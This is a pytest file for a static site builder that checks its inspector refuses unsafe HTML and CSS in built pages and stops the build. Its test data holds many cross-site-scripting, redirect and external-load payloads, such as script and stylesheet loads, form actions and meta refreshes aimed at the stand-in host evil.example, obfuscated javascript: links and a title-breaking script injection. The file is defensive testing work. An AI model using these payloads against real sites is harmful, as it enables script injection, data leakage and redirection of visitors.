"""Nothing in a page runs, loads from elsewhere or leads readers away: a page that does stops the build."""

import html
import os
import re

import pytest
from conftest import build
from library.built import BuiltPage
from library.delivery.policy import POLICY, foreign_in_styles, has_policy, is_framed, names_used_twice
from library.delivery.refusals import Inspector
from library.delivery.seal import faults
from library.types.site_address import NoAddress, checked
from selectolax.lexbor import LexborHTMLParser
from tiny_library import BANK

OWN = "https://library.example.org/"

REFUSED = {
    "<script>go()</script>": "a script in the page itself; put it in a file in docs/assets/js",
    "<script type=module>go()</script>": "a script in the page itself; put it in a file in docs/assets/js",
    "<svg><script>go()</script></svg>": "a script in the page itself; put it in a file in docs/assets/js",
    "<script type=importmap>{}</script>": "a script in the page itself; put it in a file in docs/assets/js",
    '<script src="https://evil.example/assets/js/x.js"></script>': "a script from 'https://evil.example/assets/js/x.js'",
    '<script src="//evil.example/x.js"></script>': "a script from '//evil.example/x.js'",
    '<script src="data:text/javascript,go()"></script>': "a script from 'data:text/javascript,go()'",
    '<script src="x.js"></script>': "a script from 'x.js'; scripts of ours are files in docs/assets/js",
    "<style>p { color: red }</style>": "<style>: use a class, and a style sheet in docs/assets/css",
    "<svg><style>p { color: red }</style></svg>": "<style>: use a class, and a style sheet in docs/assets/css",
    '<p style="color: red">x</p>': 'style="color: red" on <p>; use a class',
    '<p onclick="go()">x</p>': "onclick= on <p>; put a script in a file in docs/assets/js",
    "<svg onload=go()></svg>": "onload= on <svg>; put a script in a file in docs/assets/js",
    "<iframe src=/privacy/></iframe>": "<iframe>: it shows a page within the page; link to it",
    "<noscript><iframe src=/></iframe></noscript>": "<noscript>: it means one thing to browsers that run scripts",
    "<noscript><p title='</noscript><meta http-equiv=refresh content=0>'></p></noscript>": "<noscript>: it means one",
    "<the name of your team>": "<the>: pages hold no such element; write &lt; in place of <",
    "<marquee>x</marquee>": "<marquee>: pages hold no such element",
    "<svg><foreignObject><p>x</p></foreignObject></svg>": "<foreignobject>: pages hold no such element",
    "<svg><a><animate attributeName=href values='javascript:go()'/></a></svg>": "<animate>: it can change where",
    "<svg><image><set attributeName=href to='https://evil.example/'/></image></svg>": "<set>: it can change where",
    '<svg><rect fill="url(https://evil.example/x)"/></svg>': "a drawing may name its own parts alone, as url(#part)",
    '<img src="///evil.example/x.png">': "on <img>: pages ask no other website for anything",
    '<img src="/x.png" attributionsrc="https://evil.example/">': "on <img>: pages ask no other website for anything",
    '<table background="///evil.example/x"></table>': "on <table>: pages ask no other website for anything",
    '<meta name="referrer" content="unsafe-url">': "<meta name=referrer>: only the site itself says such things",
    "<iframe srcdoc=x></iframe>": "<iframe>: it shows a page within the page; link to it",
    '<object data="/x.pdf"></object>': "<object>: it runs a program",
    '<embed src="/x.pdf">': "<embed>: it runs a program",
    '<base href="https://evil.example/">': "<base>: it changes where every link leads",
    "<template><script>go()</script></template>": "<template>: scripts and styles can hide in it",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">': "<meta http-equiv=refresh>: it would take",
    '<meta http-equiv="REFRESH" content="0;https://evil.example/">': "<meta http-equiv=refresh>: it would take readers",
    '<meta http-equiv="set-cookie" content="a=b">': "<meta http-equiv=set-cookie>: only the site itself",
    '<meta http-equiv="Content-Security-Policy" content="default-src *">': "<meta http-equiv=content-security-policy>",
    '<link rel="stylesheet" href="https://evil.example/x.css">': "href='https://evil.example/x.css' on <link>",
    '<link rel="preconnect" href="//evil.example">': "href='//evil.example' on <link>",
    '<img src="https://evil.example/x.png">': "src='https://evil.example/x.png' on <img>",
    '<img src="//evil.example/x.png">': "src='//evil.example/x.png' on <img>",
    '<img src="\\\\evil.example/x.png">': "on <img>: pages ask no other website for anything",
    '<img src="/\t/evil.example/x.png">': "on <img>: pages ask no other website for anything",
    '<img srcset="/a.png 1x, https://evil.example/x.png 2x">': "on <img>: pages ask no other website for anything",
    '<video poster="http://evil.example/x.png"></video>': "on <video>: pages ask no other website for anything",
    '<audio src="https://evil.example/x.mp3"></audio>': "on <audio>: pages ask no other website for anything",
    '<form action="https://evil.example/"></form>': "on <form>: pages ask no other website for anything",
    '<button formaction="https://evil.example/">x</button>': "on <button>: pages ask no other website for anything",
    '<a href="/x/" ping="https://evil.example/">x</a>': "on <a>: pages ask no other website for anything",
    '<svg><use href="https://evil.example/x.svg#a"/></svg>': "on <use>: pages ask no other website for anything",
    '<svg><image xlink:href="https://evil.example/x.png"/></svg>': "on <image>: pages ask no other website",
    '<a href="javascript:go()">x</a>': "an address that starts with javascript: on <a>",
    '<a href="JaVaScRiPt:go()">x</a>': "an address that starts with javascript: on <a>",
    '<a href="java\nscript:go()">x</a>': "an address that starts with javascript: on <a>",
    '<a href="&#1;javascript:go()">x</a>': "an address that starts with javascript: on <a>",
    '<svg><a xlink:href="javascript:go()">x</a></svg>': "an address that starts with javascript: on <a>",
    '<a href="vbscript:go()">x</a>': "an address that starts with vbscript: on <a>",
    '<a href="data:text/html,x">x</a>': "an address that starts with data: on <a>",
    '<img src="data:image/svg+xml,x">': "an address that starts with data: on <img>",
}
ALLOWED = [
    '<script type="application/ld+json">{"a": "b"}</script>',
    '<script type="module" src="../../assets/js/frame.0123456789.js"></script>',
    '<script src="/library/assets/js/frame.js"></script>',
    f'<script src="{OWN}assets/js/frame.js"></script>',
    '<a href="https://www.gov.uk/">x</a><a href="mailto:a@b.org">x</a><a href="tel:999">x</a><a href="#on">x</a>',
    '<link rel="canonical" href="https://library.example/x/"><link rel="stylesheet" href="../assets/css/x.css">',
    f'<img src="x.png"><img src="{OWN}x.png"><img src="data:image/png;base64,AA"><form action="../find/"></form>',
    '<svg><rect fill="url(#part)" mask="url(\'#part\')"/></svg><img src="x.png" alt="see url(https://x.example)">',
    '<meta property="og:url" content="https://library.example/"><meta name="x" content="refresh">',
]


@pytest.mark.parametrize("written", REFUSED)
def test_what_a_page_may_not_hold_is_told(written):
    told = [refusal.mistake.sentence for refusal in Inspector(OWN).refusals(BuiltPage(f"<p>x</p>{written}"), None)]
    assert [what for what in told if REFUSED[written] in what], told


def test_a_meta_that_speaks_twice_for_the_site_is_told_once_and_its_other_attributes_too():
    page = BuiltPage('<meta http-equiv="refresh" name="referrer" content="5" onload="alert(1)">')
    told = [refusal.mistake.code for refusal in Inspector(OWN).refusals(page, None)]
    assert len(told) == len(set(told)) == 2, told
    assert "page-script-attribute" in told


@pytest.mark.parametrize("written", ALLOWED)
def test_what_pages_need_is_left_alone(written):
    assert list(Inspector(OWN).refusals(BuiltPage(f"<p>x</p>{written}"), None)) == []


@pytest.mark.parametrize(
    ("written", "leads_to", "allowed"),
    [
        ("0; url=https://www.gov.uk/", "https://www.gov.uk/", True),
        ("0; url=https://www.gov.uk/", "https://www.nhs.uk/", False),
        ("0; url=https://www.gov.uk/", None, False),
        ("0; url=https://www.gov.uk/'><script>", "https://www.gov.uk/", False),
        ("5", "https://www.gov.uk/", False),
    ],
)
def test_only_a_short_address_takes_readers_on_and_only_to_its_own_place(written, leads_to, allowed):
    page = BuiltPage(f'<meta http-equiv="refresh" content="{html.escape(written)}">')
    assert (list(Inspector(OWN).refusals(page, leads_to)) == []) is allowed


@pytest.mark.parametrize(
    ("head", "has"),
    [
        (f'<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{POLICY}"><script src=x>', True),
        (f'<script src=x></script><meta http-equiv="Content-Security-Policy" content="{POLICY}">', False),
        ('<meta http-equiv="Content-Security-Policy" content="default-src *">', False),
        ("", False),
    ],
)
def test_a_page_carries_the_policy_before_anything_it_is_for(head, has):
    assert has_policy(BuiltPage(f"<html><head>{head}</head><body><p>x</p></body></html>")) is has


FRAME = '<main id="content">{}</main><footer class="site-footer">999</footer>'


@pytest.mark.parametrize(
    ("words", "framed"),
    [
        ("<p>x</p>", True),
        ("</main><footer hidden>", False),
        ("</main><div hidden>", False),
        ('<footer class="site-footer">x</footer>', False),
        ('<p></p></main><main id="content">', False),
    ],
)
def test_no_words_of_an_author_end_the_frame_early_or_hide_its_foot(words, framed):
    assert is_framed(BuiltPage(f"<body>{FRAME.format(words)}</body>")) is framed


def test_an_id_that_is_used_twice_is_named():
    page = BuiltPage("<p id=a></p><p id=b></p><h2 id=a></h2><p id></p><p id></p>")
    assert list(names_used_twice(page)) == ["a"]


STYLES = {
    "p { background: url(https://evil.example/x) }": ["https://evil.example/x"],
    "@import '//evil.example/x.css';": ["//evil.example/x.css"],
    '@import url( "https://evil.example/x.css" );': ["https://evil.example/x.css"],
    "/* url(https://evil.example/x) */ p { background: url(../x.png) } @import 'x.css';": [],
    "p { background: url(data:image/png;base64,AA) }": [],
}


@pytest.mark.parametrize("css", STYLES)
def test_a_style_sheet_asks_no_other_website(css):
    assert list(foreign_in_styles(css)) == STYLES[css]


def test_a_picture_that_runs_is_told(tmp_path):
    (tmp_path / "x.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><script>go()</script></svg>')
    told = list(faults(tmp_path, tmp_path, "", {}))
    assert [one.partition(" has ")[0] for one in told] == ["x.svg", "x.svg"]


def test_a_hand_written_page_that_would_run_stops_the_build_with_file_and_line_and_nothing_is_published(tiny_project):
    """Without --strict too. Whatever a Markdown page can hold of the table is tried, each in a page of its own."""
    site = tiny_project / "site"
    (site / "old.txt").parent.mkdir()
    (site / "old.txt").write_text("the site before", encoding="utf-8")
    tried = {}
    for number, written in enumerate(REFUSED):
        if not re.search(r"[\n\t]", written):  # Markdown has ideas of its own about these
            name = f"tried-{number}.md"
            text = f"---\ntitle: Tried {number}\ndescription: Tried.\n---\n# Tried {number}\n\nWords.\n\n{written}\n"
            (tiny_project / "docs" / name).write_text(text, encoding="utf-8")
            tried[name] = REFUSED[written]
    done = build(tiny_project, site, strict=False, SHEETS="none")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    for name, expected in tried.items():
        said = [line for line in done.stderr.splitlines() if f"docs/{name}:9  makes the page " in line]
        assert [line for line in said if expected in line], f"{name}: {said or 'nothing'}, expected {expected}"
    assert [path.name for path in site.rglob("*")] == ["old.txt"]
    assert [path.name for path in tiny_project.iterdir() if "unfinished" in path.name] == []


def test_a_failed_build_leaves_the_site_that_was_there(tiny_project):
    site = tiny_project / "site"
    assert build(tiny_project, site, SHEETS="none").returncode == 0
    before = {path: path.read_bytes() for path in site.rglob("*") if path.is_file()}
    page = tiny_project / "docs" / "privacy.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n[x](nope.md)\n", encoding="utf-8")
    assert build(tiny_project, site, SHEETS="none").returncode == 1
    assert before == {path: path.read_bytes() for path in site.rglob("*") if path.is_file()}
    assert os.stat(site).st_mode & 0o777 == 0o755


HARMFUL = "&lt;/title&gt;&lt;script&gt; window.__ran=1 &lt;/script&gt; &amp;lt; <b>not</b> <5, not >9, in C#"


def test_a_title_is_shown_letter_for_letter_wherever_it_stands(tiny_project, browser):
    """The title that ran on a published site under its own policy. It is text in the page, its head and its lists."""
    bank = tiny_project / BANK
    text = bank.read_text(encoding="utf-8")
    title = "title: Openers\n"
    assert title in text
    bank.write_text(text.replace(title, f"title: '{HARMFUL}'\n", 1), encoding="utf-8")
    done = build(tiny_project, tiny_project / "site", SHEETS="none")
    assert done.returncode == 0, done.stderr
    places = {
        "questions/openers": ("title", "article h1", 'meta[property="og:title"]'),
        "questions": (".card-title",),
        "guides/listening": (".card-title",),
    }
    for folder, selectors in places.items():
        tree = LexborHTMLParser((tiny_project / "site" / folder / "index.html").read_text(encoding="utf-8"))
        for selector in selectors:
            shown = [node.attributes.get("content") or node.text() for node in tree.css(selector)]
            assert [one for one in shown if HARMFUL in re.sub(r"\s+", " ", one)], (folder, selector, shown)
    context = browser.new_context(bypass_csp=True, service_workers="block")
    page = context.new_page()
    page.goto((tiny_project / "site" / "questions" / "openers" / "index.html").as_uri())
    assert page.evaluate("window.__ran") is None
    assert HARMFUL in page.title()
    context.close()


@pytest.mark.parametrize(
    "given",
    [
        "http://[bad/",
        "https://exa mple.org/",
        "ftp://example.org/",
        "https://example.org/?q=1",
        "https://example.org/#f",
        "not a url",
        "//x",
        "javascript:alert(1)",
        "https://user:secret@example.org/",
        "https://example.org:99999/",
        'https://example.org/"onload="x',
    ],
)
def test_a_malformed_address_of_the_site_is_a_sentence(given):
    with pytest.raises(NoAddress) as told:
        checked(given)
    assert str(told.value).startswith(
        "SITE_URL should be the site's own address, such as https://example.org/library/;"
    )
    assert str(told.value).endswith(
        f"found {given!r}. It starts with https:// (or http://), and holds no spaces, passwords, ? or #."
    )


@pytest.mark.parametrize("given", ["https://example.org", "https://example.org/a/b/", "http://127.0.0.1:8080/"])
def test_an_address_of_the_site_ends_in_a_slash(given):
    assert checked(given) == f"{given.rstrip('/')}/"


def test_a_malformed_address_stops_the_build_without_a_traceback(tiny_project):
    done = build(tiny_project, tiny_project / "site", SITE_URL="http://[bad/")
    assert (done.returncode, "Traceback" in done.stderr) == (1, False)
    assert "SITE_URL should be the site's own address" in done.stderr
